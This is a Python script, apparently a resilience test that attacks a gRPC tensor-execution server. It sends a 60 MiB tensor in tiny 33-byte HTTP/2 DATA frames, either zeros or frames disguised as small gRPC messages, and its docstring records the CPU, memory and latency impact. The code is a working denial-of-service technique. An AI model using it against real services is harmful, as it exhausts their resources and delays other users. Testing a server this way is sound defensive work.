"""A tensor of 60 MiB in DATA frames of 33 bytes, of zeros or of what looks like small messages: as many slices, and
gathering them begins at the first one for every 256 KiB.

Cost: 80 MiB. Found: 15 MiB take 0.3 CPU-s, 60 MiB 1.5, 120 MiB 4.0; and what is gathered fills --memory-limit. Two of
gRPC's threads worked off nothing but frames: 200 to 350 ms for others' small calls.
"""

import struct

import http2
import wire
from attack import Attack, Target, run

ELEMENTS = 15 << 20
FRAME_BYTES = 33


def in_small_frames(content: bytes, stream: int) -> bytes:
    header = struct.pack(">I", FRAME_BYTES)[1:] + struct.pack(">BBI", http2.DATA, 0, stream)
    return b"".join(header + content[i : i + FRAME_BYTES] for i in range(0, len(content), FRAME_BYTES))


# The same frames again and again, in the middle of a large tensor.
GROUP = 2000
ZEROS = in_small_frames(bytes(GROUP * FRAME_BYTES), 1)
# Each begins like a whole message of gRPC's.
DISGUISED = in_small_frames((struct.pack(">BI", 0, FRAME_BYTES - 5) + bytes(FRAME_BYTES - 5)) * GROUP, 1)


def send(target: Target, frames: bytes) -> None:
    connection = target.connect()
    message = wire.execute(wire.call("Hardshrink", [wire.tensor("self", wire.FLOAT32, [ELEMENTS], raw=0)], lambd=0.5))
    message += wire.varint(15 << 3 | 2) + wire.varint(ELEMENTS * 4)
    call = connection.begin("Execute")
    connection.write(call, struct.pack(">BI", 0, len(message) + ELEMENTS * 4) + message)
    left = ELEMENTS * 4
    while left > GROUP * FRAME_BYTES:
        connection.take_window(call, GROUP * FRAME_BYTES)
        connection.send(frames)
        left -= GROUP * FRAME_BYTES
    connection.write(call, bytes(left), end=True, frame_bytes=FRAME_BYTES)
    connection.await_end(call, target.seconds)


def zeros(target: Target) -> None:
    send(target, ZEROS)


def disguised(target: Target) -> None:
    send(target, DISGUISED)


if __name__ == "__main__":
    run(Attack([zeros, disguised], {"--max-message-bytes": "64MiB", "--process-memory-limit": "768MiB"}, rss_mib=900))
